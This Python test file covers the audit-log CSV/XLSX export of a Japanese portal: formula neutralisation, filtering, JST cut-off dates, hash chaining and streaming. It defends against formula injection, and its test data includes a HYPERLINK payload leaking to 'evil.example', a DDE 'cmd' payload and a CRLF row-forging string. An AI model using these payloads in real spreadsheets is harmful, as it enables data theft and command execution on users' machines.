"""Exporting the trail as evidence: safe CSV/XLSX, the filter honoured, "as of" a JST day,
and every export itself an audit event."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timezone
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from portal.audit.models import AuditEvent
from portal.audit.services import record_event
from portal.extensions import db
from tests.audit_fixtures import add_events

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def auditor(make_person, login):
    """A signed-in auditor (signing in records event 1)."""
    person = make_person("A1", roles=("auditor",), name="監査 花子")
    login(person)
    return person


def _download(client, url: str, **params) -> tuple[object, bytes]:
    response = client.get(url, query_string=params)
    data = response.get_data()
    response.close()
    return response, data


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _exports() -> list[AuditEvent]:
    db.session.expire_all()
    return list(db.session.scalars(select(AuditEvent).where(AuditEvent.action == "audit.exported")))


def test_csv_export_neutralises_formulas_and_keeps_line_breaks_in_their_cell(client, make_person, auditor):
    record_event(make_person("E2", name="=cmd|' /C calc'!A0"), "test.evil", object_id="@SUM(1)",
                 reason=HYPERLINK + "\r\n\"forged\",\"row\"")
    db.session.commit()
    response, data = _download(client, "/audit/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = _csv_rows(data)
    assert len(rows) == 3  # header, the sign-in, the hostile event: the CR/LF forged nothing
    header, evil = rows[0], rows[2]
    assert header[:3] == ["番号", "日時（JST）", "日時（UTC）"]
    reason = evil[header.index("理由")]
    assert reason == "'" + HYPERLINK + "\r\n\"forged\",\"row\""
    assert evil[header.index("操作者氏名")] == "'=cmd|' /C calc'!A0"
    assert evil[header.index("対象ID")] == "'@SUM(1)"


def test_xlsx_export_neutralises_formulas_and_describes_itself(client, make_person, auditor):
    record_event(make_person("E2"), "test.evil", reason=HYPERLINK)
    db.session.commit()
    response, data = _download(client, "/audit/export.xlsx")
    assert response.status_code == 200 and response.mimetype.endswith("spreadsheetml.sheet")
    workbook = load_workbook(io.BytesIO(data))
    try:
        sheet = workbook["監査ログ"]
        header = [c.value for c in sheet[1]]
        cell = sheet.cell(row=3, column=header.index("理由") + 1)
        assert cell.value == "'" + HYPERLINK and cell.data_type == "s"
        about = {row[0].value: row[1].value for row in workbook["この書き出しについて"].iter_rows(min_row=2)}
        assert about["書き出した人"] == "監査 花子（A1）" and about["書き出した件数"] == 2
    finally:
        workbook.close()


def test_export_has_a_server_set_japanese_file_name(client, auditor):
    response, _ = _download(client, "/audit/export.csv", as_of_year="2026", as_of_month="11", as_of_day="30")
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="as-of-2026-11-30.csv"')
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == "監査ログ_as-of-2026-11-30.csv"


def test_each_export_is_an_audit_event_with_its_filter(client, auditor):
    add_events(3, action="org.imported", reason="取込")
    _download(client, "/audit/export.csv", action="org.*", text="取込")
    _download(client, "/audit/export.xlsx")
    first, second = _exports()
    assert (first.actor_label, first.object_id, second.object_id) == ("A1", "csv", "xlsx")
    assert first.details == {"format": "csv", "filter": {"action": "org.*", "text": "取込"},
                             "up_to_seq": 4, "rows": 3}
    assert second.details["up_to_seq"] == 5 and second.details["rows"] == 5  # sees the first export, not itself


def test_export_honours_the_filter(client, auditor):
    add_events(2, action="org.imported")
    add_events(2, action="auth.login_failed")
    _, data = _download(client, "/audit/export.csv", action="auth.login_failed")
    rows = _csv_rows(data)
    assert [r[6] for r in rows[1:]] == ["auth.login_failed"] * 2


def test_evidence_as_of_a_date_ends_at_that_jst_midnight(client, clock, auditor, login):
    for moment in (datetime(2026, 11, 30, 14, 59, 59, tzinfo=timezone.utc),  # 23:59:59 JST
                   datetime(2026, 11, 30, 15, 0, 0, tzinfo=timezone.utc)):   # 00:00 JST on 12/1
        clock.set(moment)
        record_event(None, "test.dated", reason=moment.isoformat())
    db.session.commit()
    clock.set(datetime(2026, 12, 1, 1, 0, tzinfo=timezone.utc))  # the exports are made on 12/1 (JST)
    login(auditor)  # the session begun at the clock's start has long expired
    as_of = {"as_of_year": "2026", "as_of_month": "11", "as_of_day": "30"}
    _, data = _download(client, "/audit/export.csv", **as_of)
    assert [r[0] for r in _csv_rows(data)[1:]] == ["1", "2"]
    export = _exports()[0]
    assert export.details["filter"] == {"as_of": "2026-11-30"} and export.details["up_to_seq"] == 2
    response, data = _download(client, "/audit/export.xlsx", as_of_year="2026", as_of_month="12", as_of_day="1")
    workbook = load_workbook(io.BytesIO(data))
    try:
        # sign-in (4/1), the two dated events, the second sign-in and the CSV export (both 12/1)
        assert [row[0].value for row in workbook["監査ログ"].iter_rows(min_row=2)] == [1, 2, 3, 4, 5]
    finally:
        workbook.close()


def test_export_rows_carry_the_hashes_so_the_chain_can_be_checked_outside(client, auditor):
    add_events(3)
    _, data = _download(client, "/audit/export.csv")
    rows = _csv_rows(data)[1:]
    for previous, current in zip(rows, rows[1:]):
        assert current[-2] == previous[-1]  # prev_hash of each row is the hash of the row before


def test_a_large_csv_export_is_streamed_in_chunks(client, auditor):
    add_events(1500, reason="x" * 40)
    response = client.get("/audit/export.csv")
    try:
        assert response.is_streamed
        chunks = list(response.response)
        assert len(chunks) >= 3
        assert len(_csv_rows(b"".join(chunks))) == 1502
    finally:
        response.close()
